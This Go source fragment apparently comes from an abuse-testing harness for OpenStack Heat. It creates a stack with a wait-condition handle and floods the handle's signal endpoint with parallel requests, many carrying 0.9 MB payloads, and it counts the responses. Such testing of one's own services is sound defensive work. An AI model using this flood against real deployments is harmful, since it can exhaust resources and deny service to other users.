package main

import (
	"context"
	"fmt"
	"strings"
	"time"
)

const waitingTemplate = templateHeader + `resources:
  handle: {type: OS::Heat::WaitConditionHandle}
  wait: {type: OS::Heat::WaitCondition, properties: {handle: {get_resource: handle}, count: 1000000, timeout: 3600}}
`

// signals sends large and small signals to one handle, eight at a time.
func (a *attackers) signals(ctx context.Context, c *counts) {
	path, err := a.hostile.create(ctx, fmt.Sprintf("flood-%d", time.Now().UnixNano()%1_000_000), fields{"template": waitingTemplate, "timeout_mins": 5})
	if err != nil {
		if ctx.Err() == nil {
			c.add("no stack to signal to")
		}
		return
	}
	defer a.hostile.cleanUp(ctx, path)
	address := a.hostile.api + path + "/resources/handle/signal"
	for ctx.Err() == nil { // until the handle is there
		if code, _, _, err := a.hostile.do(ctx, "POST", address, fields{"id": "first", "status": "SUCCESS"}); err == nil && code == 200 {
			break
		}
		wait(ctx, 50*time.Millisecond)
	}
	large := strings.Repeat("x", 900_000)
	repeatInParallel(ctx, 8, func(i int) {
		what, body := "small", fields{"id": fmt.Sprint(i), "status": "SUCCESS", "data": "x"}
		if i%2 == 0 {
			what, body = "of 0.9 MB", fields{"id": fmt.Sprint(i), "status": "SUCCESS", "data": large, "reason": large[:1000]}
		}
		code, _, _, err := a.hostile.do(ctx, "POST", address, body)
		if ctx.Err() == nil {
			c.answer(what, code, err)
		}
	})
}
